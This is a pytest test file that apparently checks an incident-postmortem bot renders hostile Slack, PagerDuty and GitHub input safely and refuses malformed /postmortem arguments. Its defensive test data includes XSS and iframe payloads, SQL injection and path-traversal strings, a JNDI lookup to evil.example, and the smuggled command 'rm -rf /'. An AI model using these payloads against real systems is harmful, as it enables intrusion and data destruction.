"""Hostile and odd input, end to end: each case gives a sound page, preview and Markdown, or a clear refusal.

Chat arrives through the real Slack history path (SlackHistorySource over HTTP from the Slack fake), the
incident from the PagerDuty fake over TLS, deploys from the GitHub fake; the draft use case compiles it;
the three renderers draw it; the store keeps it. "Sound" means: the Confluence storage parses as XML with
its ac:/ri: namespaces and uses no element or macro the clean page does not; the preview keeps within
Slack's limits and can notify nobody; the Markdown keeps one table row per timeline entry and no raw HTML
from chat; none holds a control character or a bidi override; and the text reads as it was typed.
"""

from __future__ import annotations

import html
import re
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path

import pytest

from bot.analysis.models import Draft
from bot.errors import InputError
from bot.slack.listeners.commands import parse_command
from bot.sources.pagerduty_mapping import parse_incident_ref
from tests.fakes.confluence import ConfluenceFake, storage_error
from tests.reliability.pipeline import (
    CHANNEL,
    Fakes,
    Outputs,
    blockkit_problems,
    draft_from,
    element_names,
    live_pings,
    live_sources,
    macro_names,
    page_text,
    parse_confluence,
    plant_messages,
    render_all,
    sample_pagerduty,
    slack_escaped,
    store_and_dump,
    text_objects,
)
from tests.reliability.slack_app import slack_app

# Not XML 1.0 characters, or ones that make text read differently than it is stored.
_FORBIDDEN = re.compile(
    "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ud800-\udfff\ufffe\uffff\u202a-\u202e\u2066-\u2069]"
)
_RAW_HTML = re.compile(r"<(?:script|img|iframe|svg|a |ac:|ri:|!\[CDATA|/)", re.IGNORECASE)


@dataclass(frozen=True)
class Hostile:
    id: str
    name: str  # the case, as docs/reliability.md names it
    text: str  # what the message says: typed by a person (Slack escapes it) or posted raw by an app
    raw: bool = False  # True: Slack markup as an app or Slack itself sends it, not escaped
    shown: tuple[str, ...] = ()  # what a reader must find in the page and the Markdown
    stored: str | None = None  # what the database must hold, when the store has to mend the text


FORTY_KB = (
    "\n".join(
        f"2024-07-20T11:{n % 60:02d}:00Z ERROR orders request_id=req-{n:06d} <pool> timeout & retry #{n} "
        f"<@U02BEN> <!here> ]]> \u202e"
        for n in range(420)
    )
    + "\nEND-OF-THE-40-KB-MESSAGE"
)

CASES = (
    Hostile(
        "script",
        "<script> typed in chat",
        "<script>alert(document.cookie)</script> and <img src=x onerror=alert(1)>",
        shown=("<script>alert(document.cookie)</script>", "<img src=x onerror=alert(1)>"),
    ),
    Hostile(
        "cdata",
        "]]> and CDATA typed in chat",
        "closing ]]> then <![CDATA[ <b>bold</b> ]]> again",
        shown=("closing ]]> then <![CDATA[ <b>bold</b> ]]> again",),
    ),
    Hostile(
        "macro",
        "a Confluence macro typed in chat",
        '<ac:structured-macro ac:name="html"><ac:plain-text-body><![CDATA[<iframe src="https://evil.example">]]></ac:plain-text-body></ac:structured-macro> <ri:attachment ri:filename="x.png" />',
        shown=('<ac:structured-macro ac:name="html">',),
    ),
    Hostile(
        "entities",
        "HTML entities typed in chat",
        "&lt;b&gt; &amp;amp; &#60;script&#62; &nbsp; &bogus; &#x0; &#xD800;",
        shown=("&lt;b&gt; &amp;amp; &#60;script&#62; &nbsp; &bogus; &#x0; &#xD800;",),
    ),
    Hostile(
        "controls",
        "control characters",
        "before\x00\x01\x07\x08\x0b\x0c\x1b[31mred\x1b[0m\x7f\x85\x9f after",
        shown=("before", "[31mred", "after"),
    ),
    Hostile(
        "surrogate",
        "a lone surrogate (half an emoji)",
        "half an emoji \ud83d then text",
        shown=("half an emoji",),
        stored="half an emoji \ufffd then text",
    ),
    Hostile(
        "broadcast",
        "<!channel>, <!here>, <!everyone>, <!subteam^…>",
        "<!channel> <!here|here> <!everyone> <!subteam^S0ONCALL1|@oncall> wake up",
        raw=True,
        shown=("@channel", "@oncall", "wake up"),
    ),
    Hostile(
        "mentions",
        "<@U…> and <#C…> mentions, known and unknown",
        "<@U02BEN> <@U0NOBODY1> <#C07INC9876> <#C0SECRET01|secret-plans> <@W0ENTPRS1|someone>",
        raw=True,
        shown=("@Ben Okafor", "#inc-9876-api-latency", "#secret-plans"),
    ),
    Hostile(
        "malformed",
        "malformed <…|…> markup",
        "<|> <|x> <y|> << >> <@|> <#|> <!|> <http://evil.example|<!channel>> <javascript:alert(1)|click me> <mailto:ops@acme.example|mail us> unclosed <@U02BEN",
        raw=True,
        shown=("click me", "unclosed"),
    ),
    Hostile(
        "typed-pings",
        "@channel and @here typed as words",
        "@channel @here @everyone please look at #482",
        shown=("@channel @here @everyone please look",),
    ),
    Hostile(
        "bidi",
        "right-to-left overrides",
        "invoice_\u202egnp.exe\u202c and \u2066isolated\u2069 and \u202bembedded\u202c",
        shown=("invoice_gnp.exe", "isolated"),
    ),
    Hostile(
        "zero-width",
        "zero-width characters",
        "zero\u200bwidth \u200cjoiner\u200d and\ufeffbom \u2060word",
        shown=("zero",),
    ),
    Hostile(
        "markdown",
        "Markdown and table injection",
        "| a | b |\n|---|---|\n# Heading\n[click](javascript:alert(1)) ![x](https://evil.example/p.png) <details open>",
        shown=("# Heading",),
    ),
    Hostile("forty-kb", "a 40 KB message", FORTY_KB, shown=("END-OF-THE-40-KB-MESSAGE", "req-000419")),
)


# -- the pipeline -------------------------------------------------------------------------------------


def drafted(fakes: Fakes, **options: object) -> tuple[Draft, Outputs]:
    with live_sources(fakes) as sources:
        draft = draft_from(sources, **options)
    return draft, render_all(draft)


@pytest.fixture(scope="module")
def baseline(fakes: Fakes) -> Outputs:
    """The clean sample incident's outputs: what a sound page may contain."""
    fakes.reset()
    return drafted(fakes)[1]


def timeline_rows(markdown: str) -> list[str]:
    table = markdown.split("\n## Timeline\n", 1)[1].split("\n## Contributing factors", 1)[0]
    return [line for line in table.splitlines() if line.startswith("| ")][1:]  # without the header row


def unescaped_markdown(markdown: str) -> str:
    """The Markdown as a reader sees it rendered: backslash escapes and entity references undone, table
    line breaks as newlines."""
    text = re.sub(r"\\(.)", r"\1", markdown.replace("<br>", "\n"))
    return re.sub(
        r"&(?:#[0-9]{1,8}|#[xX][0-9A-Fa-f]{1,8}|[A-Za-z0-9]{1,32});", lambda m: html.unescape(m[0]), text
    )


def assert_sound(draft: Draft, outputs: Outputs, baseline: Outputs, *, shown: tuple[str, ...] = ()) -> None:
    """The page parses and is made of what a clean page is made of; the preview is within Slack's limits
    and pings nobody; the Markdown keeps its table; nothing holds control or bidi characters; the text
    reads as typed."""
    root = parse_confluence(outputs.confluence)
    clean = parse_confluence(baseline.confluence)
    assert storage_error(outputs.confluence) is None
    assert element_names(root) <= element_names(clean)
    assert macro_names(root) <= macro_names(clean)
    assert blockkit_problems(outputs.blocks) == []
    assert live_pings(outputs.blocks) == []
    assert len(timeline_rows(outputs.markdown)) == len(draft.timeline.events)
    assert _RAW_HTML.search(outputs.markdown) is None
    for name, text in outputs.texts().items():
        assert _FORBIDDEN.search(text) is None, name
    text, markdown = page_text(root), unescaped_markdown(outputs.markdown)
    for piece in shown:
        assert piece in text, f"page: {piece!r}"
        assert piece in markdown, f"markdown: {piece!r}"


def _size(outputs: Outputs) -> dict[str, int]:
    return {
        "page KB": len(outputs.confluence.encode()) // 1024,
        "preview blocks": len(outputs.blocks),
        "longest preview text": max(len(obj["text"]) for _, obj in text_objects(outputs.blocks)),
    }


# -- chat -----------------------------------------------------------------------------------------------


class TestHostileChat:
    """Hostile input: chat"""

    @pytest.mark.parametrize("case", CASES, ids=[case.id for case in CASES])
    @pytest.mark.case({case.id: case.name for case in CASES})
    def test_renders_soundly_everywhere(
        self, fakes: Fakes, baseline: Outputs, case: Hostile, figures: dict, tmp_path: Path
    ) -> None:
        """Posted as a pinned message, an action item and a root cause: it reads as typed in the page and the Markdown, the page parses with no new element or macro, the preview keeps Slack's limits and pings nobody, no output holds a control or bidi character, and the draft is stored."""
        fakes.reset()
        sent = case.text if case.raw else slack_escaped(case.text)
        marker = f"case-{case.id}"
        plant_messages(
            fakes.slack,
            [f"{marker} {sent}", f"action item: {marker} {sent}", f"root cause: {marker} {sent}"],
            pinned=[0],
        )
        draft, outputs = drafted(fakes)
        assert_sound(draft, outputs, baseline, shown=case.shown)
        assert marker in outputs.texts()["slack preview"].lower()  # it reached the preview (an action item)
        dump = store_and_dump(f"sqlite:///{tmp_path / 'store.sqlite3'}", draft)
        assert case.stored is None or case.stored in dump
        figures["message characters"] = len(case.text)
        figures.update(_size(outputs))


class TestHostileIncident:
    """Hostile input: PagerDuty and GitHub"""

    @pytest.mark.case("markup, pings and control characters in the incident title, an alert and a deploy")
    def test_hostile_title_alert_and_deploy(self, fakes: Fakes, baseline: Outputs, figures: dict) -> None:
        """An incident title, an alert summary and a deploy description full of markup render soundly, and the page title stays one line."""
        fakes.reset()
        nasty = (
            '<script>x</script> ]]> <ac:structured-macro ac:name="html"> <!channel> @here \u202eevil\x00\x1b'
        )
        incident, entries, alerts, notes = sample_pagerduty()
        incident["title"] = f"API latency {nasty}\nsecond line"
        alerts[0]["summary"] = f"High API Latency {nasty}"
        fakes.pagerduty.incidents.clear()
        fakes.pagerduty.add_incident(incident, entries, alerts, notes)
        for deployment in fakes.github.repos["acme/customer-api"].deployments:
            if deployment["id"] == 1003:
                deployment["description"] = f"Deploy #482 {nasty}"
        draft, outputs = drafted(fakes)
        assert_sound(draft, outputs, baseline, shown=("<script>x</script>", "]]>"))
        header = outputs.blocks[0]["text"]["text"]
        assert "\n" not in header and "<script>x</script>" in header
        figures["sources"] = 3


# -- volume and odd shapes --------------------------------------------------------------------------------


class TestOddShapes:
    """Hostile input: volume and odd shapes"""

    @pytest.mark.case("a 10,000-message channel")
    def test_ten_thousand_messages(self, fakes: Fakes, baseline: Outputs, figures: dict) -> None:
        """Every message and thread reply of a 10,000-message channel is read over HTTP, page by page, and lands in the page; the preview summarises within Slack's limits."""
        fakes.reset()
        start = datetime(2024, 7, 20, 10, 5, tzinfo=UTC)
        fakes.slack.generate_channel(
            channel_id="C0BIGCHAN1", name="inc-9876-war-room", count=10_000, start=start, every_seconds=1
        )
        draft, outputs = drafted(fakes, channel_id="C0BIGCHAN1")
        read = draft.timeline.all_messages()
        assert len(read) == 10_000 + 100 * 3
        history_calls = fakes.slack.requests_to(r"/api/conversations\.history$")
        assert len(history_calls) == 10_000 // 200  # pages of 200, every cursor followed
        assert_sound(draft, outputs, baseline, shown=("update 0", "update 9999"))
        assert "reply 2 to update 9900" in page_text(parse_confluence(outputs.confluence))  # the chat log
        assert "more events in the full draft" in outputs.texts()["slack preview"]
        figures["messages"] = 10_000
        figures["thread replies"] = 300
        figures["history pages"] = len(history_calls)
        figures.update(_size(outputs))

    @pytest.mark.case("unknown and deleted users")
    def test_unknown_and_deleted_users(self, fakes: Fakes, baseline: Outputs, figures: dict) -> None:
        """Authors Slack no longer knows (user_not_found) and deactivated ones (deleted: true), and mentions of them, are named as such; nothing fails."""
        fakes.reset()
        fakes.slack.add_user(
            {"id": "U0GONE0001", "name": "gone", "deleted": True, "profile": {"real_name": "Gus Gone"}}
        )
        stamps = plant_messages(fakes.slack, ["first, from someone", "second", "third"])
        channel = fakes.slack.channels[CHANNEL]
        for message, author in zip(
            (m for m in channel.messages if m["ts"] in stamps),
            ("U0GONE0001", "U0GHOST01", "U01ANA"),
            strict=True,
        ):
            message["user"] = author
        channel.messages[-1]["text"] = "ping <@U0GHOST01> and <@U0GONE0001>"
        draft, outputs = drafted(fakes)
        assert_sound(
            draft, outputs, baseline, shown=("Gus Gone (deactivated)", "unknown user", "@unknown user")
        )
        assert "@Gus Gone (deactivated)" in page_text(parse_confluence(outputs.confluence))
        figures["users looked up"] = len(fakes.slack.requests_to(r"/api/users\.info$"))

    @pytest.mark.case("a deleted parent with live replies")
    def test_deleted_parents_keep_their_replies(self, fakes: Fakes, baseline: Outputs, figures: dict) -> None:
        """A thread whose parent was deleted (Slack's tombstone) and a reply sent to the channel whose parent is gone keep their replies in the timeline; the tombstone is left out."""
        fakes.reset()
        parent_ts, orphan_parent = "1721478000.000100", "1721477000.000100"
        channel = fakes.slack.channels[CHANNEL]
        tombstone = {
            "type": "message", "subtype": "tombstone", "text": "This message was deleted.", "user": "USLACKBOT",
            "hidden": True, "ts": parent_ts, "thread_ts": parent_ts, "reply_count": 2, "reply_users_count": 2,
            "latest_reply": "1721478120.000100", "reply_users": ["U02BEN", "U03CAR"],
        }  # fmt: skip
        replies = [
            {"type": "message", "user": "U02BEN", "ts": "1721478060.000100", "thread_ts": parent_ts,
             "parent_user_id": "U01ANA", "text": "reply that outlived its parent"},
            {"type": "message", "user": "U03CAR", "ts": "1721478120.000100", "thread_ts": parent_ts,
             "parent_user_id": "U01ANA", "text": "second surviving reply"},
        ]  # fmt: skip
        broadcast = {
            "type": "message", "subtype": "thread_broadcast", "user": "U04DEE", "ts": "1721478300.000100",
            "thread_ts": orphan_parent, "text": "also sent to the channel; parent gone", "root": {"ts": orphan_parent},
        }  # fmt: skip
        fakes.slack.add_channel(
            channel.info,
            [*channel.messages, tombstone, broadcast],
            {**channel.replies, parent_ts: replies},
            members=channel.members,
        )
        draft, outputs = drafted(fakes)
        shown = (
            "reply that outlived its parent",
            "second surviving reply",
            "also sent to the channel; parent gone",
        )
        assert_sound(draft, outputs, baseline, shown=shown)
        assert "This message was deleted." not in outputs.markdown
        figures["replies kept"] = 3


# -- incident references and the slash command ---------------------------------------------------------

REFS = (
    "", "   ", "PD-", "PD-0", "PD--1", "-1", "0", "PD-99999999999", "12345678901",
    "9876; DROP TABLE drafts;--", "9876' OR '1'='1", "../../users", "Q1R2S3T4U5V6W7/../../users",
    "%2e%2e%2fusers", "Q1R2S3T4U5V6W7?include[]=users", "Q1R2S3T4U5V6W7#x", "PD-98\x0076", "PD-9876\n",
    "PD-\u202e6789", "<!channel>", "<@U02BEN>", "<script>alert(1)</script>", "${jndi:ldap://evil.example/a}",
    "https://evil.example/incidents/Q1R2S3T4U5V6W7", "http://acme.pagerduty.com/incidents/Q1R2S3T4U5V6W7",
    "q1r2s3t4u5v6w7", "Q1R2S3", "x" * 5000,
)  # fmt: skip
_SAFE = re.compile(r"^(?:[1-9]\d{0,9}|[0-9A-Z]{6,20})$")


class TestIncidentReferences:
    """Hostile input: incident ids and /postmortem arguments"""

    @pytest.mark.case("malformed and injection-shaped incident ids")
    def test_refs_are_refused_or_safe(self, figures: dict) -> None:
        """Each reference is either refused with an InputError saying what a reference looks like, or reduced to digits or an id of capitals and digits: nothing else can reach a URL path."""
        refused = 0
        for ref in REFS:
            try:
                key = parse_incident_ref(ref)
            except InputError as exc:
                refused += 1
                assert "is not a PagerDuty incident" in str(exc)
                assert _FORBIDDEN.search(str(exc)) is None and len(str(exc)) < 300
            else:
                assert _SAFE.match(key), (ref, key)
        assert refused >= len(REFS) - 2  # "PD-9876\n" and its like may be read as what they clearly mean
        figures["references"] = len(REFS)
        figures["refused"] = refused

    @pytest.mark.case("malformed incident ids through the draft use case")
    def test_no_request_for_a_refused_ref(self, fakes: Fakes, figures: dict) -> None:
        """Drafting with a refused reference fails with the InputError before any request reaches PagerDuty."""
        fakes.reset()
        refused = [ref for ref in REFS if _refused(ref)]
        with live_sources(fakes) as sources:
            for ref in refused:
                with pytest.raises(InputError):
                    draft_from(sources, ref=ref)
        assert fakes.pagerduty.requests == []
        figures["references"] = len(refused)

    @pytest.mark.case("malformed and injection-shaped /postmortem arguments")
    def test_command_arguments(self, figures: dict) -> None:
        """The /postmortem argument parser refuses several words, malformed or injection-shaped references, and channel names without an incident number, with a message saying what to type."""
        arguments = [ref for ref in REFS if _refused(ref) and ref.strip()] + [
            "PD-9876 PD-9877",
            "PD-9876 && rm -rf /",
            "PD-9876\tDROP",
            "help me",
        ]
        for text in arguments:
            with pytest.raises(InputError, match=r"PD-\d+|PagerDuty incident"):
                parse_command(text, channel_name="inc-9876-api-latency")
        for name in (None, "", "general", "<!channel>", "inc-\u202e", "inc-" + "x" * 500):
            with pytest.raises(InputError, match="/postmortem PD-9876"):
                parse_command("", channel_name=name)
        assert parse_command("PD-9876", channel_name=None) == "PD-9876"
        assert parse_command("", channel_name="inc-9876-api-latency") == "9876"
        figures["arguments"] = len(arguments)

    @pytest.mark.case("hostile /postmortem arguments through the Slack app")
    def test_command_refusals_in_slack(
        self, fakes: Fakes, confluence: ConfluenceFake, tmp_path: Path, figures: dict
    ) -> None:
        """Through the bot's Bolt app, each hostile /postmortem argument gets one ephemeral refusal with the usage; nothing is posted in the channel, no draft is stored, PagerDuty is never asked."""
        fakes.reset()
        arguments = [
            "<!channel>",
            "9876; DROP TABLE drafts;--",
            "../../users",
            "<script>alert(1)</script>",
            "PD-9876 PD-1",
        ]
        with slack_app(fakes, confluence, tmp_path) as bot:
            for text in arguments:
                replies = fakes.slack.responses_to(bot.command(text))
                assert [r["response_type"] for r in replies] == ["ephemeral"]
                assert "/postmortem PD-9876" in replies[0]["text"]
            assert bot.stored() is None
        assert fakes.slack.posted == [] and fakes.slack.updated == []
        assert fakes.pagerduty.requests == []
        figures["arguments"] = len(arguments)


def _refused(ref: str) -> bool:
    try:
        parse_incident_ref(ref)
    except InputError:
        return True
    return False
